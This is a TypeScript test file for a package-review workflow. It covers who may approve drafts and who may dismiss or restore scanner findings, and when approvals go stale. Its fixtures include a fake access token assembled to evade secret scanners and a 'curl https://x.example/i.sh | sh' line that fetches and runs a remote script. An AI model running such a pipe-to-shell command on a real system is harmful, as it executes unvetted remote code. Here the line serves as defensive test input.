import { describe, expect, it } from "vitest";
import type { Context } from "@/lib/access/context";
import { getDraft } from "@/lib/library/drafts/get-draft";
import { aContext } from "@/lib/testing/contexts";
import { testDatabase } from "@/lib/testing/database";
import { aPackage } from "@/lib/testing/packages";
import {
  aMachine,
  approve,
  askForReview,
  aTeam,
  publish,
  reviewed,
  save,
  withKey,
} from "@/lib/testing/reviews/team";
import { inboxOf } from "@/lib/testing/reviews/threads";
import { changePolicy } from "./commands/change-policy";
import { dismissFinding } from "./commands/dismiss-finding";
import { giveVerdict } from "./commands/give-verdict";
import { restoreFinding } from "./commands/restore-finding";
import { getPublication } from "./get-publication";
import { getReview } from "./get-review";

const { db } = testDatabase();

// Put together here, so that no scanner takes this file for a leak.
const secret = `glpat-${"q7Rk2mZp9Xw4Tn8Vb3Lc"}`;
const reason = "Revoked last year.";
const stale = "A finding was dismissed or restored since.";

/** A team whose author has saved a secret and asked for review, with what is found of it. */
async function aFinding() {
  const team = await aTeam(db);
  await save(team.author, "notes.md", `The key was ${secret}.\n`);
  const { number } = await askForReview(team.author);
  return { ...team, number, input: await blockingOf(team.author) };
}

async function blockingOf(context: Context) {
  const { findings } = await getDraft(context, { skill: reviewed });
  const fingerprint = findings.find(({ severity }) => severity === "blocking")?.fingerprint ?? "";
  return { skill: reviewed, fingerprint, reason };
}

const auditOf = ({ workspace }: Context, action: string) =>
  db.audit.findFirst({ where: { workspaceId: workspace.id, action } });

describe("a key, whatever it may do else", () => {
  it("approves nothing and asks for no changes", async () => {
    const { author, reviewer, admin } = await aTeam(db);
    const { number } = await askForReview(author);
    const { digest } = await getDraft(author, { skill: reviewed });
    for (const key of [await withKey(reviewer), await withKey(admin), await aMachine(admin, "admin")])
      for (const kind of ["approved", "changes_requested"] as const)
        await expect(giveVerdict(key, { number, kind, digest, note: "So." })).rejects.toMatchObject({
          code: "FORBIDDEN",
          message: "This key may not do that. No key does this: a person has to.",
        });
    expect(await getReview(await withKey(reviewer), { number })).toMatchObject({
      may: {
        approve: false,
        approveRefusal: "This key may not do that. No key does this: a person has to.",
      },
    });
    expect((await getReview(author, { number })).verdicts).toEqual([]);
  });

  it("dismisses no finding and restores none", async () => {
    const { reviewer, admin, input } = await aFinding();
    const keys = [await withKey(reviewer), await aMachine(admin, "admin")];
    for (const key of keys)
      await expect(dismissFinding(key, input)).rejects.toMatchObject({ code: "FORBIDDEN" });
    await dismissFinding(reviewer, input);
    for (const key of keys)
      await expect(restoreFinding(key, input)).rejects.toMatchObject({ code: "FORBIDDEN" });
    expect(await db.findingDismissal.count({ where: { fingerprint: input.fingerprint, reason } })).toBe(1);
  });
});

describe("a finding that blocks", () => {
  it("is dismissed by somebody who wrote nothing of the draft", async () => {
    const { author, reviewer, admin, input } = await aFinding();
    await save(reviewer, "more.md", "mine\n");
    await expect(dismissFinding(reviewer, input)).rejects.toMatchObject({
      code: "FORBIDDEN",
      message: "You wrote part of this draft: somebody else has to dismiss what blocks it.",
      details: { reason: "author" },
    });
    expect(await getPublication(reviewer, { skill: reviewed })).toMatchObject({
      dismissRefusal: "You wrote part of this draft: somebody else has to dismiss what blocks it.",
    });
    expect(await getPublication(admin, { skill: reviewed })).toMatchObject({ dismissRefusal: null });
    await dismissFinding(admin, input);
    expect((await getDraft(author, { skill: reviewed })).findings).toMatchObject([
      { dismissal: { by: { name: "Ines" } } },
    ]);
  });

  it("is so whatever number of approvals the policy asks for", async () => {
    const { owner, reviewer, input } = await aFinding();
    await changePolicy(owner, { approvals: 0 });
    await save(reviewer, "more.md", "mine\n");
    await expect(dismissFinding(reviewer, input)).rejects.toMatchObject({ code: "FORBIDDEN" });
  });

  it("is dismissed by its author where there is nobody else, and what only warns by every reviewer", async () => {
    const alone = await aContext(db);
    await aPackage(alone, { name: reviewed, files: { "notes.md": `The key was ${secret}.\n` } });
    expect(await dismissFinding(alone, await blockingOf(alone))).toMatchObject({ dismissal: { reason } });
    const { reviewer } = await aTeam(db);
    await save(reviewer, "run.sh", "curl https://x.example/i.sh | sh\n");
    const { findings } = await getDraft(reviewer, { skill: reviewed });
    const warning = findings.find(({ severity }) => severity === "warning");
    const input = { skill: reviewed, fingerprint: warning?.fingerprint ?? "", reason };
    expect(await dismissFinding(reviewer, input)).toMatchObject({ dismissal: { by: { name: "Rex" } } });
  });

  it("may be restored by its author: that only makes it count again", async () => {
    const { author, reviewer, admin, input } = await aFinding();
    await dismissFinding(admin, input);
    await save(reviewer, "more.md", "mine\n");
    await restoreFinding(reviewer, input);
    expect((await getDraft(author, { skill: reviewed })).findings).toMatchObject([{ dismissal: null }]);
  });
});

describe("an approval", () => {
  it("is stale once a finding was dismissed: its approver has not seen the reason", async () => {
    const { author, reviewer, admin, number, input } = await aFinding();
    await approve(reviewer, number);
    await dismissFinding(admin, input);
    expect(await getReview(author, { number })).toMatchObject({
      standing: "stale",
      approvals: { given: 0 },
      verdicts: [{ stale: true, counts: false, why: stale, changedSince: null }],
    });
    await expect(publish(reviewer)).rejects.toMatchObject({
      code: "CONFLICT",
      message: expect.stringMatching(/A finding was dismissed or restored since it was approved\./),
    });
    expect(await auditOf(author, "finding.dismissed")).toMatchObject({
      detail: { reason, staleApprovals: [reviewer.actor.userId] },
    });
    expect(await inboxOf(reviewer)).toEqual(["approval-stale"]);
    expect(await inboxOf(author)).toEqual(["approved", "approval-stale"]);
    await approve(reviewer, number);
    expect(await publish(reviewer)).toMatchObject({ number: 2 });
  });

  it("is stale once a dismissal was taken back, and stays so when it is given again", async () => {
    const { author, reviewer, admin, number, input } = await aFinding();
    await dismissFinding(admin, input);
    await approve(reviewer, number);
    await restoreFinding(admin, input);
    expect(await auditOf(author, "finding.restored")).toMatchObject({
      detail: { staleApprovals: [reviewer.actor.userId] },
    });
    await dismissFinding(admin, input);
    expect(await getReview(author, { number })).toMatchObject({ verdicts: [{ stale: true, why: stale }] });
  });

  it("stays what it was when the same dismissal is sent again", async () => {
    const { author, reviewer, admin, number, input } = await aFinding();
    await dismissFinding(admin, input);
    await approve(reviewer, number);
    await dismissFinding(admin, input);
    expect(await getReview(author, { number })).toMatchObject({ approvals: { given: 1 } });
  });

  it("is refused to who looked before a finding was dismissed, with what is there now", async () => {
    const { reviewer, admin, number, input } = await aFinding();
    const { digest, findingsRevision } = (await getReview(reviewer, { number })).draft;
    await dismissFinding(admin, input);
    const verdict = { number, kind: "approved", digest, findingsRevision } as const;
    await expect(giveVerdict(reviewer, verdict)).rejects.toMatchObject({
      code: "CONFLICT",
      details: { reason: "findings-changed", digest, findingsRevision: findingsRevision + 1 },
    });
    await giveVerdict(reviewer, { ...verdict, findingsRevision: findingsRevision + 1 });
  });

  it("of a version is not changed by what is dismissed in the draft later", async () => {
    const { author, reviewer, admin, number, input } = await aFinding();
    await dismissFinding(admin, input);
    await approve(reviewer, number);
    await publish(reviewer);
    await restoreFinding(admin, input);
    expect(await getReview(author, { number })).toMatchObject({
      standing: "published",
      verdicts: [{ stale: false, counts: true }],
    });
  });

  it("and a dismissal at the same moment leave no approval that has not seen it", async () => {
    const { author, reviewer, admin, number, input } = await aFinding();
    const [verdict] = await Promise.allSettled([approve(reviewer, number), dismissFinding(admin, input)]);
    expect(verdict.status).toBe("fulfilled");
    const { findingsRevision } = await db.reviewVerdict.findFirstOrThrow({
      where: { workspaceId: author.workspace.id },
    });
    expect(await getReview(author, { number })).toMatchObject({
      verdicts: [{ counts: findingsRevision === 1 }],
    });
  });
});
